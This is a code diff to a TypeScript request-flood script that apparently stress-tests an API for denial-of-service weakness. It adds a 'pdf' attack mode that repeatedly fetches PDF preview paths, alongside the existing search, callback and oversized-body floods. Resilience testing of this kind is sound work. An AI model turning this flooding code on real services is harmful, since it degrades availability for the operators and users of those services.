@@ -4,7 +4,7 @@ import { once } from 'node:events'
 import { connect } from 'node:net'
 import { Pool } from 'undici'
 
-export type Attack = 'search' | 'callback' | 'body'
+export type Attack = 'search' | 'callback' | 'body' | 'pdf'
 
 const CONNECTIONS = 8
 const UNFINISHED = 60
@@ -18,10 +18,26 @@ const authorization = { authorization: `Bearer ${key}`, 'content-type': 'applica
 // Its addresses are not the victim's, who has limits of its own.
 const pool = new Pool(url, { connections: CONNECTIONS, pipelining: 1, localAddress: '127.0.0.2' })
 
-const requests: Readonly<Record<Attack, (n: number) => { path: string; body: string }>> = {
+interface Request {
+  method?: 'GET'
+  path: string
+  body?: string
+}
+
+/** Samples of its brand, which are drawn anew each time. */
+const samples = attack === 'pdf' ? await Promise.all(Array.from({ length: CONNECTIONS }, sampleOf)) : []
+
+const requests: Readonly<Record<Attack, (n: number) => Request>> = {
+  pdf: (n) => ({ method: 'GET', path: samples[n % CONNECTIONS] ?? '' }),
   search: (n) => ({ path: '/api/v1/flights/search', body: JSON.stringify(searchOf(n)) }),
   callback: () => ({ path: '/callbacks/pix-bacen/not-a-token', body: MEGABYTE }),
   body: () => ({ path: '/api/v1/invoices', body: MEGABYTE }),
+}
+
+async function sampleOf(): Promise<string> {
+  const { body } = await pool.request({ method: 'GET', path: '/api/v1/team/preview', headers: authorization })
+  const { data } = (await body.json()) as { data: { pdf_url: string } }
+  return new URL(data.pdf_url).pathname
 }
 
 function searchOf(n: number): object {
@@ -39,13 +55,12 @@ const make = requests[attack as Attack]
 let sent = 0
 async function flood(): Promise<never> {
   for (;;) {
-    const { path, body } = make(sent++)
-    const answer = await pool
-      .request({ method: 'POST', path, headers: authorization, body })
-      .catch(() => null)
+    const { method = 'POST', path, body = null } = make(sent++)
+    const answer = await pool.request({ method, path, headers: authorization, body }).catch(() => null)
     await answer?.body.dump().catch(() => null)
     // A flood that is refused for its form would cost nobody anything, and measure nothing.
-    if (attack === 'search' && answer?.statusCode === 400) throw new Error('the searches are not well formed')
+    const refused = { search: 400, pdf: 404, callback: 0, body: 0 }[attack as Attack]
+    if (answer?.statusCode === refused) throw new Error('the requests are not well formed')
     await new Promise((done) => setTimeout(done, AGAIN_AFTER_MS))
   }
 }
